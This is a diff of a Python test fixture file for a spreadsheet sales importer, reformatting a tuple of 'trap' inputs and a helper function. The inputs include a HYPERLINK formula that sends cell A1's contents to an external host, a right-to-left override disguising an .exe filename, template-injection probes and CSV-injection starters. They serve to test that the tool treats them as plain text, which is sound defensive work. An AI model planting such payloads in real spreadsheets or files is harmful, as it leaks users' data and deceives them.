@@ -20,7 +20,19 @@ FORMULA = '=HYPERLINK("http://example.com/?"&A1;"ver")'
 RIGHT_TO_LEFT = "Caf\u00e9 \u202etxt.exe\u202c \u05d0\u05d1 \u200f\u200f"
 LONG_REF = "SUC-CENTRO-" + "2026" * 20 + "-000000042"
 TEMPLATE_WORDS = "{{ 7 * 7 }} {% raw %} ${1+1} <!--"
-TRAPS = (SCRIPT, FORMULA, RIGHT_TO_LEFT, TEMPLATE_WORDS, "+503 7000-0000", "@SUM(A1)", "-1+2", "\tTab", "_x0041_", "&amp;", "<r><t>rich</t></r>")
+TRAPS = (
+    SCRIPT,
+    FORMULA,
+    RIGHT_TO_LEFT,
+    TEMPLATE_WORDS,
+    "+503 7000-0000",
+    "@SUM(A1)",
+    "-1+2",
+    "\tTab",
+    "_x0041_",
+    "&amp;",
+    "<r><t>rich</t></r>",
+)
 """Texts that must stay texts, wherever they are shown."""
 
 SHEET = ("ventas-noviembre.xlsx", "Ventas")
@@ -127,7 +139,9 @@ def quantity(ref: str, row: int, value: str) -> dict[str, Any]:
     )  # fmt: skip
 
 
-def held_back(number: int, *problems: dict[str, Any], ref: str = "", customer: str = "Tienda La Prueba") -> dict[str, Any]:
+def held_back(
+    number: int, *problems: dict[str, Any], ref: str = "", customer: str = "Tienda La Prueba"
+) -> dict[str, Any]:
     return {
         "external_ref": ref or f"H-{number:06d}", "doc_type": "03", "file": SHEET[0], "sheet": SHEET[1],
         "rows": [number * 3 + 2, number * 3 + 3], "gross": f"{10 + number}.50", "branch": BRANCHES[number % 3],
